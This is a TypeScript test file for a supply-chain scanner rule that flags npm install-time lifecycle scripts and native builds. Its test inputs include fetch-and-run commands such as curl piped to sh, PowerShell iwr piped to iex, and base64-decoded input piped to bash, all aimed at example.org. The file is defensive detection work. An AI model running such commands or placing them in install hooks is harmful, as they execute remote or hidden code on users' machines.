import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf, said } from '#test/support/scan-package.js';
import { rule } from './lifecycle-script.rule.js';

const manifest = (scripts: unknown) => JSON.stringify({ name: 'demo', scripts }, null, 2);

test('bad: scripts that run by themselves', () => {
  assert.deepEqual(said(rule, { 'package.json': manifest({ build: 'tsc', postinstall: 'node x.js' }) }), ['high package.json:5']);
  for (const name of ['preinstall', 'install', 'prepare', 'prepublish', 'postuninstall']) {
    assert.deepEqual(said(rule, { 'package.json': manifest({ [name]: 'x' }) }), ['high package.json:4'], name);
  }
  assert.match(findingsOf(rule, { 'package.json': manifest({ install: 'curl x' }) })[0]?.evidence ?? '', /"install": "curl x"/);
});

test('bad: commands that load or hide code', () => {
  for (const command of ['curl -fsSL https://example.org/i.sh | sh', 'powershell -c "iwr https://example.org/i | iex"', 'bash -c "$(curl -s https://example.org)"', `node -e "require('https').get('https://example.org')"`, 'echo aWQ= | base64 -d | bash']) {
    assert.deepEqual(said(rule, { 'package.json': manifest({ postinstall: command }) }), ['critical package.json:4'], command);
  }
  for (const command of ['node install.js', `node -e "try{require('./postinstall')}catch(e){}"`, 'node-gyp rebuild', 'prebuild-install || node-gyp rebuild', 'husky', 'patch-package', 'npm run build && rm -rf ./tmp']) {
    assert.deepEqual(said(rule, { 'package.json': manifest({ postinstall: command }) }), ['high package.json:4'], command);
  }
});

test('bad: native builds, and packages inside', () => {
  assert.deepEqual(said(rule, { 'binding.gyp': '{}' }), ['high binding.gyp']);
  assert.deepEqual(said(rule, { 'node_modules/a/package.json': manifest({ install: 'x' }) }), ['medium node_modules/a/package.json:4']);
});

test('bad: a manifest in another file', () => {
  assert.deepEqual(said(rule, { 'extension.json': '' }, { original: { scripts: { install: 'x' } } }), ['high']);
});

test('good: scripts that somebody has to start', () => {
  const scripts = { build: 'tsc', test: 'node --test', prepublishOnly: 'npm test', prepack: 'tsc', start: 'postinstall', 'postinstall:docs': 'x', preinstallation: 'x' };
  assert.deepEqual(said(rule, { 'package.json': manifest(scripts) }), []);
});

test('good: the words elsewhere', () => {
  assert.deepEqual(said(rule, { 'package.json': JSON.stringify({ contributes: { postinstall: 'x' }, scripts: { install: '' } }) }), []);
  assert.deepEqual(said(rule, { 'package.json': manifest(['postinstall']), 'docs/binding.gyp.md': '', 'a/package.json': 'no { json' }), []);
});
